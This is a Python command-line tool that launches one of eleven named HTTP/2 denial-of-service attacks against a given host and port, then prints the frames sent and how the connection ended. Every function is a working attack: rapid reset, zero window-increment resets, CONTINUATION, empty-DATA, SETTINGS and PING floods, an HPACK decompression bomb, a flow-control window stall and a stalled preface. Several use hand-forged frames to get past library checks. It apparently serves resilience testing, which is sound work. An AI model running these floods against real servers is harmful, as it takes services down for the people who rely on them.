"""One HTTP/2 attack on a server in cleartext: `http2_attacks.py HOST:PORT ATTACK SECONDS`.

Prints one line of JSON: how many frames were sent, how many bytes, how the connection ended and when. Uses h2 where its
state machine permits and writes frames itself where not.
"""

import json
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.errors
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

FIELDS = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "attack.test")]


class Ended(Exception):
    """The server ended the connection."""


class Attacker:
    def __init__(self, address, seconds, settings=None, reads=True):
        self.socket = socket.create_connection(address, timeout=seconds)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.end = time.monotonic() + seconds
        self.reads = reads
        self.frames = self.bytes = 0
        self.goaway = None
        self.resets = 0
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_outbound_headers=False)
        self.h2 = h2.connection.H2Connection(config)
        if settings:
            self.h2.local_settings.update(settings)
        self.unread = b""
        self.h2.initiate_connection()
        self.write(self.h2.data_to_send())

    def write(self, data, frames=0):
        """Sends bytes while reading what comes, until the server ends the connection or the time is over."""
        view = memoryview(data)
        while view:
            left = self.end - time.monotonic()
            if left <= 0:
                raise TimeoutError
            self.socket.settimeout(min(left, 0.2) if self.reads else left)
            try:
                view = view[self.socket.send(view) :]
            except (TimeoutError, socket.timeout):
                if not self.reads:
                    raise TimeoutError from None
            except OSError as error:
                raise Ended(type(error).__name__) from None
            self.read(0)
        self.frames += frames
        self.bytes += len(data)

    def read(self, wait):
        """Takes in what the server says."""
        if not self.reads:
            return
        while True:
            self.socket.settimeout(max(wait, 0.000001))
            try:
                data = self.socket.recv(65536)
            except (TimeoutError, socket.timeout, BlockingIOError):
                return
            except OSError as error:
                raise Ended(type(error).__name__) from None
            if not data:
                raise Ended("closed")
            self.scan(data)
            wait = 0

    def scan(self, data):
        """Looks for frames that end something. Attacks break h2's own state, so frames are read by their heads."""
        self.unread += data
        while len(self.unread) >= 9:
            length = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < 9 + length:
                return
            kind, payload = self.unread[3], self.unread[9 : 9 + length]
            self.unread = self.unread[9 + length :]
            if kind == 7:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
                raise Ended("goaway")
            if kind == 3:
                self.resets += 1

    def until_end(self):
        while time.monotonic() < self.end:
            self.read(min(0.2, max(self.end - time.monotonic(), 0.001)))
        raise TimeoutError

    def head(self, stream, fields=FIELDS, end_stream=True, end_headers=True):
        frame = HeadersFrame(stream, self.h2.encoder.encode(fields))
        if end_headers:
            frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()


def rapid_reset(attacker):
    """Requests taken back at once (CVE-2023-44487)."""
    cancel = h2.errors.ErrorCodes.CANCEL
    for first in range(1, 2_000_001, 200):
        batch = b""
        for stream in range(first, first + 200, 2):
            batch += attacker.head(stream) + RstStreamFrame(stream, error_code=cancel).serialize()
        attacker.write(batch, 200)
    attacker.until_end()


def made_you_reset(attacker):
    """Requests that the server has to reset itself, by a window increment of 0 (CVE-2025-8671)."""
    for stream in range(1, 2_000_001, 2):
        # hyperframe refuses to write the 0.
        zero = WindowUpdateFrame(stream, window_increment=1).serialize()[:9] + bytes(4)
        attacker.write(attacker.head(stream) + zero, 2)
    attacker.until_end()


def continuation_flood(attacker):
    """A head that never ends (CVE-2024-27316 and its kin)."""
    attacker.write(attacker.head(1, end_headers=False), 1)
    piece = ContinuationFrame(1, bytes([0x00, 0x01]) + b"x" + bytes([0x7F, 0x81, 0x07]) + b"y" * 1024).serialize()
    while True:
        attacker.write(piece, 1)


def empty_data_flood(attacker):
    """Frames of a body without a byte in them (CVE-2019-9518)."""
    attacker.write(attacker.head(1, [(":method", "POST"), *FIELDS[1:]], end_stream=False), 1)
    batch = DataFrame(1, b"").serialize() * 100
    while True:
        attacker.write(batch, 100)


def settings_flood(attacker):
    """Settings that all want an acknowledgement (CVE-2019-9515)."""
    batch = SettingsFrame(0, settings={3: 100}).serialize() * 100
    while True:
        attacker.write(batch, 100)


def ping_flood(attacker):
    """Pings that all want an answer (CVE-2019-9512)."""
    batch = PingFrame(0, b"attacker").serialize() * 100
    while True:
        attacker.write(batch, 100)


def hpack_bomb(attacker):
    """Small heads that unpack to large ones (CVE-2016-6581)."""
    stored = bytes([0x40, 0x01]) + b"x" + bytes([0x7F, 0xBD, 0x1D]) + b"y" * 3900
    for stream in range(1, 20_001, 2):
        block = attacker.h2.encoder.encode(FIELDS) + (stored if stream == 1 else b"") + bytes([0x80 | 62]) * 12_000
        frame = HeadersFrame(stream, block)
        frame.flags.add("END_HEADERS")
        frame.flags.add("END_STREAM")
        attacker.write(frame.serialize(), 1)
    attacker.until_end()


def window_stall(attacker):
    """Answers that may not be sent: no window, many streams (CVE-2019-9511, -9517)."""
    for stream in range(1, 200, 2):
        attacker.write(attacker.head(stream, [*FIELDS[:2], (":path", "/large"), FIELDS[3]]), 1)
    attacker.until_end()


def preface_never_sent(attacker):
    """The first bytes of HTTP/2's preface, and nothing behind them."""
    attacker.until_end()


ATTACKS = {
    "rapid_reset": (rapid_reset, {}),
    "made_you_reset": (made_you_reset, {}),
    "continuation_flood": (continuation_flood, {}),
    "empty_data_flood": (empty_data_flood, {}),
    "settings_flood": (settings_flood, {}),
    "settings_flood_unread": (settings_flood, {"reads": False}),
    "ping_flood": (ping_flood, {}),
    "ping_flood_unread": (ping_flood, {"reads": False}),
    "hpack_bomb": (hpack_bomb, {}),
    "window_stall": (window_stall, {"settings": {4: 0}}),
    "preface_never_sent": (preface_never_sent, {}),
}


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    name, seconds = sys.argv[2], float(sys.argv[3])
    attack, options = ATTACKS[name]
    start = time.monotonic()
    attacker, outcome = None, "still open"
    try:
        if attack is preface_never_sent:
            attacker = Attacker.__new__(Attacker)
            attacker.socket = socket.create_connection((host, int(port)), timeout=seconds)
            attacker.socket.sendall(b"PRI * HTTP/2.0\r\n")
            attacker.end, attacker.reads = start + seconds, True
            attacker.frames, attacker.bytes, attacker.goaway, attacker.resets, attacker.unread = 0, 16, None, 0, b""
        else:
            attacker = Attacker((host, int(port)), seconds, **options)
        attack(attacker)
    except Ended as ended:
        outcome = str(ended)
        # What was said before the connection broke.
        try:
            attacker.reads = True
            attacker.read(0.2)
        except Ended:
            pass
    except TimeoutError:
        pass
    print(
        json.dumps(
            {
                "attack": name,
                "frames": attacker.frames if attacker else 0,
                "bytes": attacker.bytes if attacker else 0,
                "outcome": outcome,
                "goaway": attacker.goaway if attacker else None,
                "resets": attacker.resets if attacker else 0,
                "seconds": round(time.monotonic() - start, 2),
            }
        )
    )


main()
